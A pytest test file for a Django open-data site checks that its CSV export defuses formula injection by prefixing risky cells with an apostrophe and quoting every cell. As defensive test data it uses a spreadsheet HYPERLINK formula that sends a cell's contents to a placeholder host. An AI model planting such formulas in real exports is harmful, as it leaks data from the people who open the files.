"""A text of the CSV export is never run as a formula by the spreadsheet that opens it.

As OWASP recommends against CSV injection, a cell starting with = + - @, a tab or a carriage
return starts with an apostrophe, and every cell is quoted: a spreadsheet that splits lines on
semicolons (French Excel) keeps the semicolons of a quoted cell in it. The JSON keeps the texts
as typed.
"""

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest

from partners.models import Partner
from projects.models import Partnership, Project
from tests.factories import make_axis, make_partner, make_project, make_region, make_theme

pytestmark = [pytest.mark.postgresql, pytest.mark.django_db]

FORMULA = 'HYPERLINK("https://example.org/?leak="&A1,"x")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def formula_everywhere(start):
    """A published project whose every text shown in the CSV starts with `start`."""
    text = start + FORMULA
    project = make_project(
        title_fr=text,
        summary_fr=text,
        beneficiaries_fr=text,
        axis=make_axis(title_fr=text),
        status=Project.Status.ONGOING,
        start_date=datetime.date(2024, 4, 1),
        budget=Decimal("150000.00"),
    )
    project.themes.add(make_theme(title_fr=text))
    project.regions.add(make_region(name_fr=text))
    for role in Partnership.Role:
        partner = make_partner(name_fr=text, kind=Partner.Kind.UN_AGENCY)
        Partnership.objects.create(project=project, partner=partner, role=role)
    return text


def csv_text(client):
    response = client.get("/fr/open-data/projects.csv")
    assert response.status_code == 200
    return response.getvalue().decode("utf-8-sig")


TEXT_COLUMNS = [
    "title",
    "summary",
    "beneficiaries",
    "axis",
    "themes",
    "regions",
    "donors",
    "implementing_partners",
    "government_counterparts",
    "other_partners",
]


@pytest.mark.parametrize("start", STARTS)
def test_a_csv_cell_that_would_start_a_formula_starts_with_an_apostrophe(client, start):
    text = formula_everywhere(start)
    [row] = csv.DictReader(io.StringIO(csv_text(client)))
    for column in TEXT_COLUMNS:
        assert row[column] == "'" + text, column
    # Numbers and dates we write ourselves are left as they are.
    assert (row["budget"], row["start_date"]) == ("150000.00", "2024-04-01")


def test_every_csv_cell_is_quoted_so_no_separator_splits_it(client):
    make_project(title_fr="Accueil;=1+1", summary_fr="Résumé")
    header, row = csv_text(client).splitlines()
    assert header.startswith('"slug","iati_identifier","url","title",')
    assert '"Accueil;=1+1","Résumé"' in row
    assert row.startswith('"') and row.endswith('"')


def test_a_text_that_starts_no_formula_is_as_typed(client):
    make_project(title_fr="Accueil = 1+1", summary_fr="'Déjà' cité")
    [row] = csv.DictReader(io.StringIO(csv_text(client)))
    assert (row["title"], row["summary"]) == ("Accueil = 1+1", "'Déjà' cité")


def test_the_json_keeps_a_text_that_would_start_a_formula_as_typed(client):
    text = formula_everywhere("=")
    response = client.get("/fr/open-data/projects.json")
    [record] = json.loads(response.content)["results"]
    assert (record["title"], record["axis"]["title"]) == (text, text)


@pytest.mark.parametrize(
    ("lang", "sentence"),
    [
        (
            "fr",
            "Un texte qui commence par =, +, -, @, une tabulation ou un retour chariot est "
            "précédé d’une apostrophe",
        ),
        (
            "ar",
            "يُسبَق كل نص يبدأ بأحد الرموز =، +، -، @ أو بعلامة جدولة أو بإرجاع السطر بفاصلة عليا",
        ),
        (
            "en",
            "A text that starts with =, +, -, @, a tab or a carriage return is given an apostrophe",
        ),
    ],
)
def test_the_open_data_page_says_how_the_csv_keeps_formulas_from_running(client, lang, sentence):
    page = client.get(f"/{lang}/open-data/").content.decode()
    assert sentence in " ".join(page.split())
